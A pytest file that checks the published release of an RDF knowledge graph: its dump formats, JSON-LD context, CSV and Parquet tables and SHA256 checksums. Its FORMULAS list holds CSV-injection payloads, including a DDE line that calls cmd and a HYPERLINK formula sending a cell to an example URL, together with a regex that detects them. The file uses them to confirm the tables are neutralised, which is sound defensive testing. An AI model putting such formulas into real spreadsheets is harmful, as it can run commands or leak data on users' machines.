"""What a release publishes is read by programs that had no part in writing it: rdflib, csv, pyarrow, sha256sum."""

from __future__ import annotations

import csv
import gzip
import io
import json
import re
import subprocess
from collections import Counter
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pyarrow as pa
import pyarrow.parquet as pq
import pyoxigraph as ox
import pytest
import rdflib
import rdflib.term
import zstandard

from tests.edited_pages import titled_html, titled_text

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    Run = Callable[..., subprocess.CompletedProcess[str]]

DUMPS = {
    "ogp-graph.nt.gz": "nt", "ogp-graph.ttl.gz": "turtle", "ogp-graph.jsonld.gz": "json-ld",
    "ogp-graph.nq.gz": "nquads", "ogp-graph.nq.zst": "nquads", "ogp-graph-citations.nq.gz": "nquads",
}  # fmt: skip
OXIGRAPH = {
    "nt": ox.RdfFormat.N_TRIPLES, "turtle": ox.RdfFormat.TURTLE, "json-ld": ox.RdfFormat.JSON_LD,
    "nquads": ox.RdfFormat.N_QUADS,
}  # fmt: skip
XSD = "http://www.w3.org/2001/XMLSchema#"
FORMULAS = [
    '=HYPERLINK("https://www.example.org/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3 is what they said", "@SUM(1+1)*cmd",
    "＝1+1 in full width", "'=1+1 behind an apostrophe", "− a minus that is none", "%0A=1",
]  # fmt: skip

FORMULA = r"[\s\u00ad\u200b-\u200f\u2060\ufeff]*[=+\-@＝＋－＠﹢﹣﹦﹫]|[\t\r\n]"

Statement = tuple[str, ...]
pytestmark = pytest.mark.filterwarnings("ignore::DeprecationWarning:rdflib")  # rdflib warns of its own insides


@pytest.fixture(scope="module", autouse=True)
def literals_as_they_are() -> Iterator[None]:
    """rdflib would write "01" as "1"; here it may not."""
    before, rdflib.NORMALIZE_LITERALS = rdflib.NORMALIZE_LITERALS, False
    yield
    rdflib.NORMALIZE_LITERALS = before


def unpacked(path: Path) -> bytes:
    data = path.read_bytes()
    if path.suffix == ".gz":
        return gzip.decompress(data)
    return zstandard.ZstdDecompressor().stream_reader(data).read()


@pytest.fixture(scope="module")
def by_rdflib(sample_release: Path) -> dict[str, Counter[Statement]]:
    """The statements of each dump as rdflib reads them, written as N-Triples or N-Quads terms."""
    return {name: statements(sample_release / "dumps" / name, form) for name, form in DUMPS.items()}


def statements(path: Path, form: str) -> Counter[Statement]:
    graph = rdflib.Dataset(default_union=False)
    graph.parse(data=unpacked(path), format=form)
    return Counter(tuple(term.n3() for term in quad if term is not None) for quad in named(graph))


def named(graph: rdflib.Dataset) -> Iterator[tuple[Any, ...]]:
    """Quads of the dataset; the name of the default graph is None."""
    for subject, predicate, value, name in graph.quads():
        yield subject, predicate, value, None if name == rdflib.graph.DATASET_DEFAULT_GRAPH_ID else name


# RDF


@pytest.mark.parametrize("name", DUMPS)
def test_rdflib_reads_as_many_statements_as_oxigraph(
    name: str, by_rdflib: dict[str, Counter[Statement]], sample_release: Path
) -> None:
    told = json.loads((sample_release / "release.json").read_text(encoding="utf-8"))["counts"]
    kind = "citations" if "citations" in name else "quads" if ".nq" in name else "statements"
    read = list(ox.parse(unpacked(sample_release / "dumps" / name), OXIGRAPH[DUMPS[name]]))
    assert by_rdflib[name].total() == len(by_rdflib[name]) == len(read) == len(set(read)) == told[kind]


def test_every_format_says_the_same(by_rdflib: dict[str, Counter[Statement]]) -> None:
    merged = set(by_rdflib["ogp-graph.nt.gz"])
    assert len(merged) > 3_000
    for name in ("ogp-graph.ttl.gz", "ogp-graph.jsonld.gz"):
        assert set(by_rdflib[name]) == merged
    for name in ("ogp-graph.nq.gz", "ogp-graph.nq.zst"):
        assert {quad[:3] for quad in by_rdflib[name]} == merged


def test_named_graphs_are_those_of_reports_and_what_they_share(by_rdflib: dict[str, Counter[Statement]]) -> None:
    base = "<https://w3id.org/ogp-graph/graph"
    graphs = {quad[3] for quad in by_rdflib["ogp-graph.nq.gz"] if not quad[3].startswith(f"{base}/links/")}
    assert {graph for graph in graphs if not graph.startswith(f"{base}/report/")} == {f"{base}/meta>"}
    cited = {quad[3] for quad in by_rdflib["ogp-graph-citations.nq.gz"]}
    assert {graph.replace("/graph/sources/", "/graph/report/") for graph in cited} == graphs - {f"{base}/meta>"}


@pytest.mark.parametrize("name", DUMPS)
def test_there_is_no_blank_node(name: str, by_rdflib: dict[str, Counter[Statement]], sample_release: Path) -> None:
    assert not any(term.startswith("_:") for quad in by_rdflib[name] for term in quad)
    assert b"_:" not in unpacked(sample_release / "dumps" / name)


@pytest.mark.parametrize("name", DUMPS)
def test_no_file_says_when_or_by_which_release_it_was_made(name: str, sample_release: Path) -> None:
    data = (sample_release / "dumps" / name).read_bytes()
    if name.endswith(".gz"):
        assert data[3] == 0, "RFC 1952, 2.3: no name, no comment"
        assert data[4:8] == bytes(4), "RFC 1952, 2.3: no time"
    assert sample_release.name.encode() not in unpacked(sample_release / "dumps" / name)


def test_lines_are_sorted(sample_release: Path) -> None:
    for name in ("ogp-graph.nt.gz", "ogp-graph.nq.gz", "ogp-graph-citations.nq.gz"):
        data = unpacked(sample_release / "dumps" / name)
        assert data.endswith(b"\n")
        lines = data.decode("utf-8").removesuffix("\n").split("\n")
        assert lines == sorted(lines)


def test_findings_and_catalogue_are_read_by_rdflib(sample_release: Path) -> None:
    for name in ("quality/findings.ttl", "catalogue.ttl"):
        graph = rdflib.Graph().parse(sample_release / name, format="turtle")
        assert len(graph) > 20
        assert not any(isinstance(term, rdflib.BNode) for triple in graph for term in triple)
    linked = rdflib.Graph().parse(sample_release / "catalogue.jsonld", format="json-ld")
    assert set(linked) == set(rdflib.Graph().parse(sample_release / "catalogue.ttl", format="turtle"))


def test_the_catalogue_counts_what_is_there(by_rdflib: dict[str, Counter[Statement]], sample_release: Path) -> None:
    """VoID 4: statements of each property, entities of each class."""
    graph = rdflib.Graph().parse(sample_release / "catalogue.ttl", format="turtle")
    rows = graph.query(
        "PREFIX void: <http://rdfs.org/ns/void#> SELECT ?what ?kind ?n {"
        " { ?d void:propertyPartition ?p . ?p void:property ?what ; void:triples ?n BIND ('property' AS ?kind) } UNION"
        " { ?d void:classPartition ?p . ?p void:class ?what ; void:entities ?n BIND ('class' AS ?kind) } }"
    )
    told = {(str(row.kind), f"<{row.what}>"): int(row.n) for row in rows}
    merged = by_rdflib["ogp-graph.nt.gz"]
    here = Counter(("property", predicate) for _, predicate, _ in merged)
    here.update(("class", value) for _, predicate, value in merged if predicate == rdflib.RDF.type.n3())
    assert told == here


# JSON-LD's context


@pytest.fixture(scope="module")
def context(root: Path) -> dict[str, Any]:
    """The published context."""
    return json.loads((root / "ontology" / "context.jsonld").read_text(encoding="utf-8"))["@context"]


def iri(name: str, context: dict[str, Any]) -> str:
    prefix, _, local = name.partition(":")
    return context[prefix] + local


def test_the_context_of_the_dump_has_the_published_prefixes(context: dict[str, Any], sample_release: Path) -> None:
    used = json.loads(unpacked(sample_release / "dumps" / "ogp-graph.jsonld.gz"))["@context"]
    prefixes = {name: value for name, value in context.items() if str(value).startswith("http")}
    assert len(prefixes) > 5
    assert {name: used.get(name) for name in prefixes} == prefixes


def test_the_context_types_each_term_as_the_data_do(context: dict[str, Any], sample_release: Path) -> None:
    """JSON-LD 1.1, 4.2.3: a coerced type that the data do not have would lose or invent one."""
    kinds: dict[str, set[str]] = {}
    for quad in ox.parse(unpacked(sample_release / "dumps" / "ogp-graph.nq.gz"), ox.RdfFormat.N_QUADS):
        value = quad.object
        kind = value.datatype.value if isinstance(value, ox.Literal) else "@id"
        kinds.setdefault(quad.predicate.value, set()).add(kind)
    plain = {f"{XSD}string", "http://www.w3.org/1999/02/22-rdf-syntax-ns#langString"}
    checked = 0
    for name, definition in context.items():
        if isinstance(definition, dict) and "@type" in definition:
            kind = definition["@type"] if definition["@type"] == "@id" else iri(definition["@type"], context)
            expected = {kind}
        elif isinstance(definition, str | dict) and name not in ("@version", "id", "type"):
            expected = plain
        else:
            continue
        term = definition["@id"] if isinstance(definition, dict) else definition
        found = kinds.get(iri(term, context)) if ":" in term and not term.startswith("http") else None
        if found:
            assert found <= expected, name
            checked += 1
    assert checked > 25


def test_the_published_context_says_the_same_in_short_names(
    context: dict[str, Any], by_rdflib: dict[str, Counter[Statement]], sample_release: Path
) -> None:
    """rdflib compacts the data with the context and reads back what it wrote."""
    graph = rdflib.Graph().parse(data=unpacked(sample_release / "dumps" / "ogp-graph.nt.gz"), format="nt")
    short = graph.serialize(format="json-ld", context=context, auto_compact=True)
    assert '"actionPlan"' in short
    back = rdflib.Graph().parse(data=short, format="json-ld")
    assert {tuple(term.n3() for term in triple) for triple in back} == set(by_rdflib["ogp-graph.nt.gz"])


# Tables


@pytest.fixture(scope="module")
def formulas(tmp_path_factory: pytest.TempPathFactory, ogp_graph: Run) -> Path:
    """A release of pages whose texts a spreadsheet would execute."""
    folder = tmp_path_factory.mktemp("formulas")
    for number, formula in enumerate(FORMULAS):
        page = titled_html(
            f"Formula number {number}",
            ("The ledger went online in May and has been updated every week since.", formula),
            ("Minutes of four sessions", formula),
            ("Dr Morag Tulloch-Fyfe", "=Morag Tulloch"),
        )
        (folder / f"{number}.html").write_text(page, encoding="utf-8")
    text = titled_text("=1+1 is the title", ("Eight of nine panels met", 'They said "no, thanks"; eight, of nine, met'))
    (folder / "=cmd.txt").write_text(text, encoding="utf-8")
    ogp_graph("build", "--workspace", folder / "ws", folder)
    return folder / "ws" / "current"


@pytest.fixture(params=["samples", "formulas"])
def tables(request: pytest.FixtureRequest, sample_release: Path) -> Path:
    return (sample_release if request.param == "samples" else request.getfixturevalue("formulas")) / "tables"


def rows_of(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file, strict=True))


def test_tables_follow_rfc_4180(tables: Path) -> None:
    names = sorted(path.name for path in tables.glob("*.csv"))
    assert len(names) > 8
    for name in names:
        data = (tables / name).read_bytes().decode("utf-8")
        assert not data.startswith("\ufeff")
        rows = rows_of(tables / name)
        assert {len(row) for row in rows} == {len(rows[0])}, name  # 2.4: the same number of fields
        assert len(set(rows[0])) == len(rows[0])
        again = io.StringIO()
        csv.writer(again, lineterminator="\r\n").writerows(rows)  # 2.1: CRLF; 2.5-2.7: quotes where needed, doubled
        assert again.getvalue() == data


def test_no_cell_is_a_formula(tables: Path) -> None:
    """https://owasp.org/www-community/attacks/CSV_Injection"""
    for path in tables.glob("*.csv"):
        cells = (cell for row in rows_of(path) for cell in row)
        assert [cell for cell in cells if re.match(FORMULA, cell)] == []


def test_parquet_has_the_same_rows_word_for_word(tables: Path) -> None:
    names = sorted(path.stem for path in tables.glob("*.csv"))
    assert names == sorted(path.stem for path in tables.glob("*.parquet"))
    for name in names:
        header, *rows = rows_of(tables / f"{name}.csv")
        table = pq.read_table(tables / f"{name}.parquet")
        assert table.column_names == header
        expected = [[cell_of(value) for value in row.values()] for row in table.to_pylist()]
        assert [[plain(cell) for cell in row] for row in rows] == expected
        assert not any(pa.types.is_binary(field.type) or pa.types.is_null(field.type) for field in table.schema)


def plain(cell: str) -> str:
    """A cell as the description of the tables says that it is read: one apostrophe less before a formula."""
    return cell[1:] if re.match(rf"'+({FORMULA})", cell) else cell


def cell_of(value: object) -> str:
    return "" if value is None else str(value).lower() if isinstance(value, bool) else str(value)


def test_a_formula_is_verbatim_in_parquet_and_neutral_in_csv(formulas: Path) -> None:
    table = pq.read_table(formulas / "tables" / "answers.parquet").column("explanation").to_pylist()
    header, *rows = rows_of(formulas / "tables" / "answers.csv")
    shown = [row[header.index("explanation")] for row in rows]
    for formula in FORMULAS:
        said = next(text for text in table if text and text.startswith(formula))
        assert (said if formula[0] in "−%" else f"'{said}") in shown
    header, *rows = rows_of(formulas / "tables" / "evaluators.csv")
    assert "'=Morag Tulloch" in {row[header.index("name")] for row in rows}


def test_the_wide_table_has_one_row_for_each_report(sample_release: Path) -> None:
    header, *rows = rows_of(sample_release / "tables" / "overview.csv")
    keys = [row[header.index("report")] for row in rows]
    assert len(keys) == len(set(keys)) == 17


def test_the_description_of_the_tables_names_their_columns(tables: Path) -> None:
    """https://www.w3.org/TR/tabular-metadata/"""
    told = json.loads((tables / "tables.csv-metadata.json").read_text(encoding="utf-8"))
    described = {
        table["url"]: [column.get("name", column.get("titles")) for column in table["tableSchema"]["columns"]]
        for table in told["tables"]
    }
    assert described == {path.name: rows_of(path)[0] for path in tables.glob("*.csv")}


# Checksums


def test_sha256sum_finds_every_file_as_it_was_published(program: Callable[[str], str], sample_release: Path) -> None:
    lists, checked = {"SHA256SUMS", "SHA256SUMS.store"}, set()
    for name in sorted(lists):
        done = subprocess.run(
            [program("sha256sum"), "--check", "--strict", name],
            cwd=sample_release, capture_output=True, text=True, timeout=60,
        )  # fmt: skip
        assert done.returncode == 0, done.stdout + done.stderr
        checked |= {line.removesuffix(": OK") for line in done.stdout.splitlines()}
    files = {str(path.relative_to(sample_release)) for path in sample_release.rglob("*") if path.is_file()}
    assert files - checked == lists
